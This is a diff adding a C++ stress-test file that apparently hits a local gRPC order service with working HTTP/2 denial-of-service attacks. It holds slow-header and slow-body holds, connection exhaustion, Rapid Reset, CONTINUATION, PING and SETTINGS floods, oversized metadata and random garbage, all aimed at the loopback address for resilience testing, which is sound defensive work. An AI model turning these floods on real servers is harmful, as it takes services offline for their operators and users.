@@ -1,0 +1,231 @@
+#include "tests/storm/assault.h"
+
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <array>
+#include <cerrno>
+#include <chrono>
+#include <cstdint>
+#include <random>
+#include <string_view>
+#include <thread>
+#include <vector>
+
+namespace msp::storm {
+namespace {
+
+constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+constexpr std::size_t kFrameBytesMax = 16'384;
+enum FrameType : std::uint8_t {
+  kData = 0,
+  kHeaders = 1,
+  kReset = 3,
+  kSettings = 4,
+  kPing = 6,
+  kContinuation = 9
+};
+constexpr std::uint8_t kEndHeaders = 4;
+
+std::string Frame(FrameType type, std::uint8_t flags, std::uint32_t stream,
+                  std::string_view payload, std::size_t announced = 0) {
+  const std::size_t size = announced == 0 ? payload.size() : announced;
+  std::string frame;
+  for (const int shift : {16, 8, 0}) frame.push_back(static_cast<char>(size >> shift));
+  frame.push_back(static_cast<char>(type));
+  frame.push_back(static_cast<char>(flags));
+  for (const int shift : {24, 16, 8, 0}) frame.push_back(static_cast<char>(stream >> shift));
+  return frame.append(payload);
+}
+
+// A header field without compression; its name and value have fewer than 127 bytes.
+std::string Field(std::string_view name, std::string_view value) {
+  std::string field(1, '\0');
+  for (const std::string_view text : {name, value}) {
+    field.push_back(static_cast<char>(text.size()));
+    field.append(text);
+  }
+  return field;
+}
+
+std::string CallHeaders() {
+  return Field(":method", "POST") + Field(":scheme", "http") +
+         Field(":path", "/multisafepay.v1.OrderService/GetOrder") + Field(":authority", "a") +
+         Field("content-type", "application/grpc") + Field("te", "trailers");
+}
+
+std::string Greeting() { return std::string(kPreface) + Frame(kSettings, 0, 0, ""); }
+
+int Dial(const Target& target) {
+  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  sockaddr_in address{};
+  address.sin_family = AF_INET;
+  address.sin_port = htons(static_cast<std::uint16_t>(target.port));
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  if (fd >= 0 && connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
+    fcntl(fd, F_SETFL, O_NONBLOCK);
+    return fd;
+  }
+  if (fd >= 0) close(fd);
+  return -1;
+}
+
+// Reads away what has come; false when the other side has ended the connection.
+bool Drain(int fd) {
+  std::array<char, 65'536> buffer{};
+  ssize_t size = 0;
+  while ((size = recv(fd, buffer.data(), buffer.size(), 0)) > 0) {
+  }
+  return size < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
+}
+
+// Sends all of it unless the attack or the connection ends before.
+bool Send(const Target& target, int fd, std::string_view bytes, Effort& effort) {
+  while (!bytes.empty()) {
+    if (*target.stop || !Drain(fd)) return false;
+    const ssize_t sent = send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL);
+    if (sent > 0) {
+      effort.bytes += sent;
+      bytes.remove_prefix(static_cast<std::size_t>(sent));
+    } else if (errno == EAGAIN || errno == EWOULDBLOCK) {
+      pollfd polled{.fd = fd, .events = POLLOUT | POLLIN, .revents = 0};
+      poll(&polled, 1, 20);
+    } else {
+      return false;
+    }
+  }
+  return true;
+}
+
+// Keeps `count` connections open that began with `opening`, and sends each a byte now and then.
+Effort Hold(const Target& target, std::size_t count, const std::string& opening, bool trickles) {
+  Effort effort;
+  std::vector<int> held;
+  while (held.size() < count && !*target.stop) {
+    const int fd = Dial(target);
+    if (fd < 0) break;
+    ++effort.connections;
+    held.push_back(fd);
+    if (!opening.empty()) Send(target, fd, opening, effort);
+  }
+  while (!*target.stop) {
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+    if (!trickles) continue;
+    for (const int fd : held) {
+      if (send(fd, "\0", 1, MSG_NOSIGNAL) == 1) ++effort.bytes;
+    }
+  }
+  for (const int fd : held) {
+    effort.cut += Drain(fd) ? 0 : 1;
+    close(fd);
+  }
+  return effort;
+}
+
+// Sends what `next` makes as fast as it is taken, over a new connection whenever one is cut.
+template <class Next>
+Effort Flood(const Target& target, const Next& next) {
+  Effort effort;
+  while (!*target.stop) {
+    const int fd = Dial(target);
+    if (fd < 0) {
+      std::this_thread::sleep_for(std::chrono::milliseconds(10));
+      continue;
+    }
+    ++effort.connections;
+    long number = 0;
+    bool open = Send(target, fd, Greeting(), effort);
+    while (open) open = Send(target, fd, next(number++), effort);
+    if (!*target.stop) ++effort.cut;
+    close(fd);
+  }
+  return effort;
+}
+
+}  // namespace
+
+Effort SlowHeaders(const Target& target) {
+  const std::string headers = CallHeaders();
+  return Hold(target, 500, Greeting() + Frame(kHeaders, kEndHeaders, 1, headers.substr(0, 9), 4096),
+              true);
+}
+
+Effort SlowBody(const Target& target) {
+  return Hold(target, 500,
+              Greeting() + Frame(kHeaders, kEndHeaders, 1, CallHeaders()) +
+                  Frame(kData, 0, 1, std::string_view("\0\0\0\x10", 4), 4096),
+              true);
+}
+
+Effort IdleConnections(const Target& target) { return Hold(target, 10'000, "", false); }
+
+Effort PrefaceOnly(const Target& target) { return Hold(target, 500, std::string(kPreface), false); }
+
+Effort RapidReset(const Target& target) {
+  const std::string headers = CallHeaders();
+  return Flood(target, [&headers](long number) {
+    std::string frames;
+    for (int i = 0; i < 100; ++i) {
+      const auto stream = static_cast<std::uint32_t>(2 * (100 * number + i) + 1);
+      frames += Frame(kHeaders, kEndHeaders, stream, headers) +
+                Frame(kReset, 0, stream, std::string_view("\0\0\0\x08", 4));
+    }
+    return frames;
+  });
+}
+
+Effort ContinuationFlood(const Target& target) {
+  const std::string fields = [] {
+    std::string all;
+    while (all.size() < kFrameBytesMax - 256) all += Field("x-nothing", std::string(100, 'n'));
+    return all;
+  }();
+  return Flood(target, [&fields](long number) {
+    return number == 0 ? Frame(kHeaders, 0, 1, CallHeaders()) : Frame(kContinuation, 0, 1, fields);
+  });
+}
+
+Effort PingFlood(const Target& target) {
+  std::string pings;
+  for (int i = 0; i < 100; ++i) pings += Frame(kPing, 0, 0, "12345678");
+  return Flood(target, [&pings](long /*number*/) { return pings; });
+}
+
+Effort SettingsFlood(const Target& target) {
+  std::string settings;
+  for (int i = 0; i < 100; ++i)
+    settings += Frame(kSettings, 0, 0, std::string_view("\0\x03\0\0\0\x64", 6));
+  return Flood(target, [&settings](long /*number*/) { return settings; });
+}
+
+Effort OversizedMetadata(const Target& target) {
+  std::string fields;
+  while (fields.size() < kFrameBytesMax - 256) fields += Field("x-nothing", std::string(100, 'n'));
+  return Flood(target, [&fields](long number) {
+    const auto stream = static_cast<std::uint32_t>(2 * number + 1);
+    std::string frames = Frame(kHeaders, 0, stream, CallHeaders());
+    for (int i = 0; i < 64; ++i) frames += Frame(kContinuation, 0, stream, fields);
+    return frames + Frame(kContinuation, kEndHeaders, stream, Field("x-last", "1"));
+  });
+}
+
+Effort Garbage(const Target& target) {
+  std::mt19937 random(7);
+  std::string bytes(65'536, ' ');
+  Effort effort;
+  while (!*target.stop) {
+    for (char& byte : bytes) byte = static_cast<char>(random());
+    const int fd = Dial(target);
+    if (fd < 0) continue;
+    ++effort.connections;
+    if (!Send(target, fd, bytes, effort) && !*target.stop) ++effort.cut;
+    close(fd);
+  }
+  return effort;
+}
+
+}  // namespace msp::storm
